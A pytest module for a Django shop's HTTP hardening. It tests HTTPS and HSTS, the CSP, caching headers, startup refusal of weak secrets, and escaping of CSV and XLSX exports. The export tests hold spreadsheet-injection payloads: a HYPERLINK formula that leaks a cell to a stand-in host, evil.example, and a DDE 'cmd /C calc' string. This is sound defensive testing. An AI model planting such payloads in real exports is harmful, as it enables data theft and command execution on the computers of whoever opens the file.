"""HTTP hardening (issue 7): HTTPS and HSTS, the CSP, Cache-Control, check --deploy,
safe exports and refusing weak secrets at startup.
"""

from __future__ import annotations

import csv
import io
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from cryptography.fernet import Fernet
from django.conf import settings as django_settings
from django.urls import reverse

from config.lib.exports import escape_formula
from fulfillment.admin.batches import CodeBatchResource
from orders.services import order_place
from tests.factories.catalog import ProductFactory, SkuFactory
from tests.factories.fulfillment import stock_codes

ROOT = Path(django_settings.BASE_DIR)
TEMPLATES = ROOT / "templates"
EXPORT_URL = reverse("admin:fulfillment_codebatch_export")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.fixture
def shop(db):
    product = ProductFactory(name="腾讯视频 VIP", slug="tx-vip")
    sku = SkuFactory(product=product, code="TX-VIP-MONTH", name="月卡")
    stock_codes(sku, 3)
    return sku


@pytest.fixture
def https(settings):
    """The production proxy setup: TLS ends at the proxy, which says so in a header."""
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_HSTS_SECONDS = 31_536_000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True


# --- HTTPS and HSTS ------------------------------------------------------------


def test_plain_http_is_redirected_to_https(client, https, shop):
    response = client.get("/p/tx-vip/?x=1")

    assert response.status_code == 301
    assert response["Location"] == "https://testserver/p/tx-vip/?x=1"


def test_healthz_answers_the_load_balancers_plain_http_probe(client, https, db):
    response = client.get(reverse("healthz"))

    assert (response.status_code, response.content) == (200, b"ok")


def test_https_pages_carry_hsts_including_subdomains(client, https, shop):
    response = client.get("/", HTTP_X_FORWARDED_PROTO="https")

    assert response.status_code == 200
    assert (
        response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    )


# --- Content Security Policy ---------------------------------------------------


def _directives(response) -> dict[str, list[str]]:
    policy = response["Content-Security-Policy"]
    return {
        name: values
        for name, *values in (
            part.split() for part in policy.split(";") if part.strip()
        )
    }


def test_shopper_pages_forbid_inline_scripts_and_foreign_sources(
    alice_client, alice, shop
):
    order = order_place(user=alice, sku_code="TX-VIP-MONTH", quantity=1)
    pages = [
        "/",
        "/p/tx-vip/",
        f"{reverse('orders:checkout')}?sku=TX-VIP-MONTH&quantity=1",
        reverse("orders:order-list"),
        reverse("orders:order-detail", args=[order.number]),
        "/accounts/email/",
        "/no-such-page/",
    ]

    for url in pages:
        directives = _directives(alice_client.get(url))
        assert directives["script-src"] == ["'self'"], url
        assert directives["style-src"] == ["'self'"], url
        assert directives["default-src"] == ["'self'"], url
        assert directives["object-src"] == ["'none'"], url
        assert directives["frame-ancestors"] == ["'none'"], url


def test_admin_keeps_script_src_self_plus_one_hashed_handler(admin_client, shop):
    directives = _directives(admin_client.get(EXPORT_URL))

    assert "'unsafe-inline'" not in directives["script-src"]
    assert directives["script-src"][:2] == ["'self'", "'unsafe-hashes'"]
    assert len(directives["script-src"]) == 3
    assert "'unsafe-inline'" in directives["style-src"]


def test_a_changed_policy_setting_takes_effect(client, settings, shop):
    client.get("/")  # the storefront's header, built and kept
    settings.CONTENT_SECURITY_POLICY = {
        "DIRECTIVES": {"default-src": ["'none'"], "script-src": ["'self'"]}
    }

    directives = _directives(client.get("/"))

    assert directives == {"default-src": ["'none'"], "script-src": ["'self'"]}


def test_templates_hold_no_inline_script_or_event_handler():
    inline_script = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>")
    handler = re.compile(r"\son[a-z]+\s*=", re.IGNORECASE)
    offenders = [
        str(path.relative_to(ROOT))
        for path in TEMPLATES.rglob("*.html")
        if inline_script.search(text := path.read_text(encoding="utf-8"))
        or handler.search(text)
        or "javascript:" in text
    ]

    assert offenders == []


# --- Cache-Control -------------------------------------------------------------


def test_every_shopper_page_is_private_even_from_the_shared_page_cache(
    client, alice, shop, django_assert_max_num_queries
):
    client.get("/")
    client.get("/p/tx-vip/")  # rendered once; the next answers come from the cache

    with django_assert_max_num_queries(0):
        home = client.get("/")
        product = client.get("/p/tx-vip/")
    client.force_login(alice)
    checkout = client.get(
        reverse("orders:checkout"), {"sku": "TX-VIP-MONTH", "quantity": 1}
    )
    orders = client.get(reverse("orders:order-list"))

    for response in (home, product, checkout, orders):
        assert response.status_code == 200
        assert "private" in response["Cache-Control"]
        assert "public" not in response["Cache-Control"]


def test_pages_showing_codes_are_not_stored(alice_client, alice, shop):
    order = order_place(user=alice, sku_code="TX-VIP-MONTH", quantity=1)

    response = alice_client.get(reverse("orders:order-detail", args=[order.number]))

    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


# --- check --deploy and startup refusals (a fresh process each) -----------------

_OWN_ENV = {
    "SECRET_KEY",
    "VAULT_KEYS",
    "VAULT_FINGERPRINT_KEY",
    "SANDBOX_PAY_SECRET",
    "DEBUG",
    "ALLOWED_HOSTS",
}


def _production_env(**overrides: str) -> dict[str, str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in _OWN_ENV and not k.startswith("SECURE_")
    }
    env.update(
        {
            "DJANGO_SETTINGS_MODULE": "config.settings",
            "DEBUG": "false",
            "SECRET_KEY": secrets.token_urlsafe(50),
            "VAULT_KEYS": Fernet.generate_key().decode(),
            "VAULT_FINGERPRINT_KEY": secrets.token_urlsafe(32),
            "SANDBOX_PAY_SECRET": secrets.token_urlsafe(32),
            "ALLOWED_HOSTS": "shop.example.com",
        }
    )
    env.update(overrides)
    return env


def _run(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(  # noqa: S603 - our own interpreter and manage.py
        [sys.executable, *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def _load_settings(**overrides: str) -> subprocess.CompletedProcess[str]:
    code = "import django; from django.conf import settings; settings.INSTALLED_APPS"
    return _run(["-c", code], _production_env(**overrides))


def test_check_deploy_is_clean_with_production_settings():
    result = _run(
        ["manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        _production_env(),
    )

    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout


@pytest.mark.parametrize(
    "secret_key",
    [
        "short-but-random-Xy7#",
        "ab" * 40,  # long enough, two distinct characters
        "django-insecure-" + secrets.token_urlsafe(50),
    ],
)
def test_startup_refuses_a_weak_secret_key(secret_key):
    result = _load_settings(SECRET_KEY=secret_key)

    assert result.returncode != 0
    assert "ImproperlyConfigured" in result.stderr
    assert "SECRET_KEY" in result.stderr
    assert secret_key not in result.stderr


@pytest.mark.parametrize(
    "vault_keys",
    [
        "not-a-fernet-key",
        "c2hvcnQ=",  # base64, 5 bytes
        "!" * 44,
        Fernet.generate_key().decode()[:-1],  # no padding
        Fernet.generate_key().decode() + ",tail-of-a-pasted-key",
    ],
)
def test_startup_refuses_a_malformed_vault_key(vault_keys):
    result = _load_settings(VAULT_KEYS=vault_keys)

    assert result.returncode != 0
    assert "VAULT_KEYS" in result.stderr
    assert "not a Fernet key" in result.stderr
    for key in vault_keys.split(","):
        assert key not in result.stderr


def test_startup_names_every_problem_at_once():
    result = _load_settings(
        SECRET_KEY="x" * 10, VAULT_KEYS="bad", SANDBOX_PAY_SECRET=""
    )

    assert result.returncode != 0
    assert "missing or still the demo values: SANDBOX_PAY_SECRET" in result.stderr
    assert "SECRET_KEY is too weak (10 characters, 1 distinct" in result.stderr
    assert "VAULT_KEYS entry 1 of 1 is not a Fernet key" in result.stderr


def test_startup_accepts_rotated_fernet_keys():
    keys = ",".join(Fernet.generate_key().decode() for _ in range(2))

    result = _load_settings(VAULT_KEYS=keys)

    assert result.returncode == 0, result.stderr


# --- Exports ---------------------------------------------------------------------


def _export(client, fmt: str, query: str = ""):
    fields = {
        f"codebatchresource_{name}": "on" for name in CodeBatchResource._meta.fields
    }
    return client.post(EXPORT_URL + query, {"format": fmt, "resource": "0", **fields})


@pytest.fixture
def hostile_batch(db):
    sku = SkuFactory(code="TX-VIP-MONTH")
    return stock_codes(sku, 1, source=FORMULA, note="+cmd|' /C calc'!A0").batch


def test_csv_export_escapes_formula_like_cells(operator_client, hostile_batch):
    response = _export(operator_client, "0")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert response.status_code == 200
    assert row[header.index("source")] == "'" + FORMULA
    assert row[header.index("note")] == "'+cmd|' /C calc'!A0"
    assert row[header.index("cost_price")] == ""  # no cost recorded


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-1+cmd", "'-1+cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.50", "-3.50"),  # a negative amount stays a number
        ("+86", "+86"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_escape_formula_marks_only_text_a_spreadsheet_would_run(cell, written):
    assert escape_formula(cell) == written


def test_xlsx_export_writes_formula_like_text_as_text(operator_client, hostile_batch):
    response = _export(operator_client, "1")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    source = row[header.index("source")]
    assert response.status_code == 200
    assert (source.value, source.data_type) == ("'" + FORMULA, "s")
    assert row[header.index("id")].value == str(hostile_batch.pk)
    # Empty stays empty (import-export's own escaping would write "None" here).
    assert row[header.index("cost_price")].value is None


@pytest.mark.parametrize(
    "query",
    ["?foo=bar", "?status__nope=1", "?created_at__gte=notadate", "?sku__nope=1"],
)
def test_export_with_an_unknown_or_malformed_filter_is_400(
    operator_client, hostile_batch, query
):
    form = operator_client.get(EXPORT_URL + query)
    download = _export(operator_client, "0", query)

    assert (form.status_code, download.status_code) == (400, 400)


def test_export_with_a_known_filter_still_exports_only_what_it_selects(
    operator_client, hostile_batch
):
    other = stock_codes(SkuFactory(code="NE-MUSIC"), 1, source="网易").batch
    platform = hostile_batch.sku.product.platform_id

    response = _export(
        operator_client, "0", f"?sku__product__platform__id__exact={platform}"
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response.status_code == 200
    assert [row[0] for row in rows[1:]] == [str(hostile_batch.pk)]
    assert str(other.pk) not in {row[0] for row in rows[1:]}
